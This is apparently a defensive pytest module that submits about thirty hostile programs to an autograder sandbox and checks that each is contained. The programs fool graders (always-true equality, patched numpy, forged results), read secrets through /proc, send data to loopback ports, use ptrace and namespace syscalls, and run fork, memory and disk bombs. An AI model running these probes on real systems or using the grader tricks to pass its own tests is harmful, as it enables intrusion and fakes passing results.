"""Attacks on the trust boundary, each a real submission graded for real by each sandbox
backend (``process``, and ``docker`` where a docker engine and the grading image are present).

For every attack: its score is what its honest work earns (0 for a wrong or absent
implementation, full marks for a correct one that also tries something), the grader survives,
the next submission grades normally, and the feedback says what happened. Canaries planted in
the hidden tests, the reference solution and the grader's environment must never reach the
student's output (which is shown as feedback), so a successful read would be visible.
"""

from __future__ import annotations

import os
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from autograder.course import Course
from autograder.harness.grader import grade_uploads
from autograder.results import GradingResult
from tests.conftest import as_root, write
from tests.support.sandboxes import sandbox_for

pytestmark = pytest.mark.skipif(not as_root(), reason="the full process sandbox needs root")

HIDDEN_CANARY = "hidden-test-canary-5d1e"
REFERENCE_CANARY = "reference-canary-91c2"
ENV_CANARY = "grader-env-canary-0b7f"
VICTIM_CANARY = "another-students-work-3c9d"

REFERENCE = f'''
import numpy as np
SECRET = "{REFERENCE_CANARY}"

def affine(x, w, b):
    """x @ w + b"""
    # BEGIN SOLUTION
    return x @ w + b
    # END SOLUTION
'''

PUBLIC_TESTS = '''
import numpy as np
from autograder.checks import assert_close

def test_affine_small(student):
    x, w, b = np.ones((2, 3)), np.ones((3, 4)), np.arange(4.0)
    assert_close(student.affine(x, w, b), np.full((2, 4), 3.0) + np.arange(4.0), name="out")
'''

HIDDEN_TESTS = f'''
import numpy as np
import pytest
from autograder.checks import assert_close
CANARY = "{HIDDEN_CANARY}"

@pytest.mark.points(2)
def test_affine_matches_reference(student, reference, rng):
    x, w, b = rng.normal(size=(4, 3)), rng.normal(size=(3, 5)), rng.normal(size=5)
    assert_close(student.affine(x, w, b), reference.affine(x, w, b), name="out")
'''

CORRECT = "import numpy as np\ndef affine(x, w, b):\n    return x @ w + b\n"

# name -> (source, expected score out of 3). {port}, {outdir}, {course}, {grader_pid} are filled in.
ATTACKS: dict[str, tuple[str, float]] = {
    "eq_always_true": ('''
        class Liar:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array__(self, *a, **k):
                import numpy as np
                return np.zeros(1)
        def affine(x, w, b):
            return Liar()
        ''', 0),
    "numpy_patched": ('''
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        def affine(x, w, b):
            return np.zeros((x.shape[0], w.shape[1]))
        ''', 0),
    "sys_exit_at_import": ("import sys\nsys.exit(0)\n", 0),
    "os_exit_at_import": ("import os\nos._exit(0)\n", 0),
    "sys_exit_in_call": ("import sys\ndef affine(x, w, b):\n    sys.exit(0)\n", 0),
    "os_exit_in_call": ("import os\ndef affine(x, w, b):\n    os._exit(0)\n", 0),
    "correct_after_exits": (CORRECT, 3),
    "fake_results": ('''
        import json, os, sys
        fake = {{"score": 100, "max_score": 3, "tests": [{{"name": "all", "score": 100,
                 "max_score": 3, "status": "passed", "output": "", "visibility": "visible"}}]}}
        text = json.dumps(fake)
        print(text); print(text, file=sys.stderr)
        for d in [".", "/tmp", "/", "/submission", "{outdir}", "{outdir}/forged",
                  "/autograder/results", os.path.expanduser("~")]:
            try:
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, "results.json"), "w") as f:
                    f.write(text)
                print("wrote", d)
            except OSError as e:
                print("could not write", d, e)
        def affine(x, w, b):
            print(text)
            return 0.0
        ''', 0),
    "read_secrets": ('''
        import os
        found = {{}}
        targets = ["{course}/solutions/toy/toy.py", "{course}/solutions/toy/tests/test_hidden.py",
                   "{course}/assignments/toy/assignment.toml"]
        for t in targets:
            try:
                found[t] = open(t).read()
            except OSError as e:
                print("cannot read", t, type(e).__name__)
        for top in ["/", "/tmp", "/root", "/work", "/home", "/srv", "/var"]:
            for dirpath, dirnames, filenames in os.walk(top):
                if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in dirpath or "/lib/python3" in dirpath:
                    dirnames[:] = []
                    continue
                for name in filenames:
                    if name.endswith(".py") and ("test_hidden" in name or name == "toy.py"):
                        try:
                            found[os.path.join(dirpath, name)] = open(os.path.join(dirpath, name)).read()
                        except OSError:
                            pass
        for path, text in found.items():
            print("FOUND", path, text[:2000])
        ns = {{}}
        for text in found.values():
            if "def affine" in text:
                exec(text, ns)
        def affine(x, w, b):
            if "affine" in ns:
                return ns["affine"](x, w, b)
            return 0.0
        ''', 0),
    "proc_snoop": ('''
        import os
        def affine(x, w, b):
            for pid in ["{grader_pid}", "1", "self/../1"] + os.listdir("/proc"):
                for f in ("environ", "cmdline", "mem"):
                    try:
                        with open(f"/proc/{{pid}}/{{f}}", "rb") as fh:
                            print(pid, f, fh.read(4000))
                    except (OSError, ValueError) as e:
                        pass
            return x @ w + b
        ''', 3),
    "network": ('''
        import socket
        def affine(x, w, b):
            for host, port in [("127.0.0.1", {port}), ("localhost", {port}),
                               ("127.0.0.1", 5432), ("127.0.0.1", 6379)]:
                try:
                    s = socket.create_connection((host, port), timeout=1)
                    s.sendall(b"EXFILTRATED")
                    print("connected to", host, port)
                except OSError as e:
                    print("network blocked:", host, port, e)
            return x @ w + b
        ''', 3),
    "kill_parent": ('''
        import os, signal
        def affine(x, w, b):
            for target in [os.getppid(), 1, {grader_pid}]:
                try:
                    os.kill(target, signal.SIGKILL)
                    print("killed", target)
                except OSError as e:
                    print("cannot kill", target, e)
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError as e:
                print("kill(-1) failed", e)
            return x @ w + b
        ''', 3),
    "ptrace": ('''
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def affine(x, w, b):
            for pid in [1, os.getppid(), {grader_pid}]:
                r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
                print("ptrace", pid, r, os.strerror(ctypes.get_errno()))
            return x @ w + b
        ''', 3),
    "syscall_escapes": ('''
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        def affine(x, w, b):
            attempts = {{
                "unshare(CLONE_NEWUSER)": lambda: libc.unshare(0x10000000),
                "clone(CLONE_NEWUSER)": lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0),
                "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
                "ptrace(TRACEME)": lambda: libc.ptrace(0, 0, 0, 0),
                "keyctl": lambda: libc.syscall(250, 0, 0, 0),
                "bpf": lambda: libc.syscall(321, 0, 0, 0),
                "perf_event_open": lambda: libc.syscall(298, 0, 0, 0, 0, 0),
                "setns": lambda: libc.syscall(308, 0, 0),
            }}
            for name, attempt in attempts.items():
                result = attempt()
                code = errno.errorcode.get(ctypes.get_errno(), "?") if result == -1 else "ALLOWED"
                print("escape", name, code)
            return x @ w + b
        ''', 3),
    "victim": (CORRECT + "VICTIM_CANARY = '{victim_canary}'\n", 3),
    "read_other_submissions": ('''
        import glob, os
        found = []
        for pattern in ["/tmp/autograder-intake-*/*/*.py", "/tmp/autograder-sandbox-*/*/*.py",
                        "/tmp/*/*/toy.py", "/tmp/*/*/*/toy.py", "/var/lib/docker/**/toy.py"]:
            for path in glob.glob(pattern, recursive=True):
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "VICTIM_CANARY" in text:
                    found.append(text)
        print("found", len(found), "other submissions")
        for text in found:
            print(text)
        def affine(x, w, b):
            return 0.0
        ''', 0),
    "sleeper": ("import time\ndef affine(x, w, b):\n    time.sleep(1000)\n", 0),
    "protocol_imitation": ('''
        import sys, struct, json
        fake = json.dumps({{"op": "hello", "id": 1, "ok": 100.0}}).encode()
        frame = struct.pack(">I", len(fake)) + fake
        sys.stdout.buffer.write(frame); sys.stdout.flush()
        sys.stderr.buffer.write(frame); sys.stderr.flush()
        def affine(x, w, b):
            sys.stdout.buffer.write(frame * 100); sys.stdout.flush()
            return x @ w + b
        ''', 3),
    "oversized_return": ('''
        import numpy as np
        def affine(x, w, b):
            return np.zeros(5 * 2**20)  # 40 MB, over the course's 16 MB message limit
        ''', 0),
    "nan_return": ('''
        import numpy as np
        def affine(x, w, b):
            return np.full((x.shape[0], w.shape[1]), np.nan)
        ''', 0),
    "broadcast_shape": ('''
        import numpy as np
        def affine(x, w, b):
            out = x @ w + b
            return out[:, :1]  # (N, 1): would broadcast against (N, M) in a lax comparison
        ''', 0),
    "object_array": ('''
        import numpy as np
        def affine(x, w, b):
            return np.array(list(x @ w + b), dtype=object)
        ''', 0),
    "fork_bomb": ('''
        import os
        def affine(x, w, b):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        ''', 0),
    "correct_after_fork_bomb": (CORRECT, 3),
    "memory_bomb": ('''
        def affine(x, w, b):
            hoard = []
            while True:
                hoard.append(bytearray(100 * 2**20))
        ''', 0),
    "infinite_loop": ("def affine(x, w, b):\n    while True:\n        pass\n", 0),
    "output_flood": ('''
        import sys
        def affine(x, w, b):
            line = "spam " * 200 + "\\n"
            for _ in range(20000):
                sys.stdout.write(line)
            return x @ w + b
        ''', 3),
    "disk_fill": ('''
        def affine(x, w, b):
            for d in ["/tmp", ".", "/dev/shm"]:
                try:
                    with open(d + "/fill", "wb") as f:
                        while True:
                            f.write(b"\\0" * 2**20)
                except OSError as e:
                    print("disk full at", d, type(e).__name__)
            return x @ w + b
        ''', 3),
    "thread_left_running": ('''
        import threading, time, sys
        import numpy as np
        state = {{"last": None}}
        def affine(x, w, b):
            out = x @ w + b
            result = out.copy()
            state["last"] = out          # the thread scribbles on what it can still reach
            def scribble():
                while True:
                    if state["last"] is not None:
                        state["last"][...] = 0
                    print("thread still running", flush=True)
                    time.sleep(0.001)
            threading.Thread(target=scribble, daemon=True).start()
            return result
        ''', 3),
    "correct_last": (CORRECT, 3),
}


@pytest.fixture(scope="module")
def listener():
    """A TCP listener on loopback that records every connection the sandbox makes."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    accepted: list[bytes] = []
    stop = threading.Event()

    def run():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                accepted.append(conn.recv(100))
            except OSError:
                accepted.append(b"")
            conn.close()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join(2)
    server.close()


# A uid range of this module's own, so the check for leftover processes cannot be confused by
# other graders running on the same machine.
UID_BASE = 63000 + (os.getpid() % 400) * 2


@pytest.fixture(scope="module", params=["process", "docker"])
def backend(request):
    return request.param


@pytest.fixture(scope="module")
def attack_sandbox(backend):
    with sandbox_for(backend, UID_BASE) as sb:
        yield sb


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener, attack_sandbox):
    sandbox = attack_sandbox
    port, accepted = listener
    root = tmp_path_factory.mktemp("attack-course")
    write(root / "course.toml", 'name = "attacks"\n')
    write(root / "assignments/toy/assignment.toml",
          'name = "toy"\nmodules = ["toy"]\n[resources]\ntest_time_limit_s = 4\n'
          'time_limit_s = 30\nmemory_mb = 512\nmax_output_kb = 16\nmax_processes = 32\n'
          'disk_mb = 16\nmax_message_mb = 16\n')
    write(root / "assignments/toy/tests/test_public.py", PUBLIC_TESTS)
    write(root / "solutions/toy/toy.py", REFERENCE)
    write(root / "solutions/toy/tests/test_hidden.py", HIDDEN_TESTS)
    outdir = root / "graded"
    uploads = []
    for name, (source, _) in ATTACKS.items():
        text = textwrap.dedent(source).format(port=port, outdir=outdir, course=root,
                                              grader_pid=os.getpid(),
                                              victim_canary=VICTIM_CANARY)
        uploads.append(write(root / "uploads" / f"{name}.py", text))
    os.environ["AG_TEST_CANARY"] = ENV_CANARY
    try:
        results = grade_uploads(Course(root).assignment("toy"), uploads, sandbox=sandbox)
    finally:
        os.environ.pop("AG_TEST_CANARY", None)
    for r in results:
        r.write(outdir / r.submission / "results.json")
    return {r.submission: r for r in results}, accepted, outdir


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_earns_exactly_its_honest_work(graded, name):
    results, _, _ = graded
    r = results[name]
    expected = ATTACKS[name][1]
    assert r.max_score == 3
    assert r.score == expected, "\n".join(f"{t.name}: {t.outcome}: {t.output[:300]}"
                                          for t in r.tests)


def test_no_secret_reaches_the_student(graded, backend):
    results, _, _ = graded
    for r in results.values():
        text = r.output + "".join(t.output for t in r.tests)
        canaries = (HIDDEN_CANARY, REFERENCE_CANARY, ENV_CANARY) + (
            () if r.submission == "victim" else (VICTIM_CANARY,))
        for canary in canaries:
            assert canary not in text, f"{r.submission} obtained {canary}"
    snoop = "\n".join(t.output for t in results["read_secrets"].tests)
    assert "cannot read" in snoop
    found = [line.split()[1] for line in snoop.splitlines() if line.startswith("FOUND ")]
    own = {"/submission/toy.py"}
    if backend == "docker":  # the read-only mount its copy in /submission was made from
        own.add("/ag/files/toy.py")
    assert set(found) <= own, found  # only its own file is there


def test_feedback_says_what_happened(graded):
    results, _, _ = graded
    def outcomes(name):
        return {t.outcome for t in results[name].tests}
    def text(name):
        return "\n".join(t.output for t in results[name].tests)
    summary = {name: sorted(outcomes(name)) for name in results}
    assert "sys.exit(0)" in text("sys_exit_at_import"), summary
    assert "exited with status 0" in text("os_exit_at_import")
    assert "sys.exit(0)" in text("sys_exit_in_call")
    assert outcomes("os_exit_in_call") == {"crash"}, summary
    assert outcomes("infinite_loop") == {"timeout"}, summary
    assert "Time limit exceeded" in text("infinite_loop")
    assert outcomes("memory_bomb") == {"memory"}, summary
    assert outcomes("fork_bomb") <= {"timeout", "crash", "error"}, summary
    assert "Liar" in text("eq_always_true")
    assert "truncated" in text("output_flood") + results["output_flood"].output
    assert "network blocked" in text("network")
    assert "disk full" in text("disk_fill")
    assert "found 0 other submissions" in text("read_other_submissions")
    assert outcomes("sleeper") == {"timeout"}, summary
    assert outcomes("oversized_return") == {"protocol"}, summary
    assert "exceeds the 16 MiB limit" in text("oversized_return")
    assert "NaN or infinite" in text("nan_return")
    assert "expected shape (2, 4), got shape (2, 1)" in text("broadcast_shape")
    assert "object of type ndarray" in text("object_array")


def test_escaping_syscalls_are_refused(graded):
    results, _, _ = graded
    lines = [line for t in results["syscall_escapes"].tests for line in t.output.splitlines()
             if line.startswith("escape ")]
    assert len(lines) >= 8
    assert all(line.endswith("EPERM") for line in lines), lines


def test_forged_results_change_nothing(graded):
    results, _, outdir = graded
    assert results["fake_results"].score == 0
    # The attack tried to write into the grader's real output folder: it does not exist
    # in the sandbox, and nothing appeared on the host.
    assert not (outdir / "forged").exists()
    assert not (outdir / "results.json").exists()
    stored = GradingResult.read(outdir / "fake_results" / "results.json")
    assert stored.score == 0 and stored.max_score == 3


def test_network_listener_received_nothing(graded):
    _, accepted, _ = graded
    assert accepted == []


def test_no_student_process_outlives_grading(graded, backend, attack_sandbox):
    if backend == "docker":  # containers started ahead for a next submission: none comes
        attack_sandbox.release_warm()
    leftovers = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
        if UID_BASE <= int(uid_line.split()[1]) < UID_BASE + 4:
            leftovers.append(pid)
    assert leftovers == []
